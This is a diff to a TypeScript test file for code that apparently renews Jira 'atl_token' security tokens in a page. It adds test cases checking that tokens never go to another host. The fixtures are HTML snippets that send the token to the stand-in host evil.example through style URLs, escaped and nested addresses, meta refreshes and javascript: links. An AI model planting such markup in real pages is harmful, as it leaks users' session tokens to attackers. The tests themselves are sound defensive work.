@@ -123,6 +123,14 @@ describe('a renewal gives nothing to another host', () => {
       'a list of addresses',
       `<p data-links='["/jira/a","https:\\/\\/evil.example\\/?atl_token=${OLD}"]'></p>`,
     ],
+    ['a style', `<p style="background:url(//evil.example/?t=${OLD})"></p>`],
+    ['an escaped address', `<p data-to='{"a":"https:\\u002f\\u002fevil.example?atl_token=${OLD}"}'></p>`],
+    ['an address in an address', `<a href="/jira/x?u=https://evil.example/?atl_token=${OLD}"></a>`],
+    [
+      'a redirect without slashes',
+      `<meta http-equiv="refresh" content="9; url=https:evil.example/?atl_token=${OLD}">`,
+    ],
+    ['what somebody writes', `<input name="link" value="/jira/x?atl_token=${OLD}">`],
     ['a redirect', `<meta http-equiv="refresh" content="9; url=https://evil.example/?atl_token=${OLD}">`],
     ['a script’s address', `<a href="javascript:go('${OLD}')"></a>`],
   ])('by %s', (_name, html) => {
@@ -139,7 +147,8 @@ describe('a renewal gives nothing to another host', () => {
 });
 
 function renew(page: Document, old: string, current: string, site = 'https://jira.example.com'): number {
-  return renewIn(page, { site: site as Site, old: Token.parse(old)!, current: Token.parse(current)! });
+  const renewal = { site: site as Site, old: Token.parse(old)!, current: Token.parse(current)! };
+  return renewIn(page, renewal, page.baseURI);
 }
 
 /** A page at an issue of jira.example.com. */
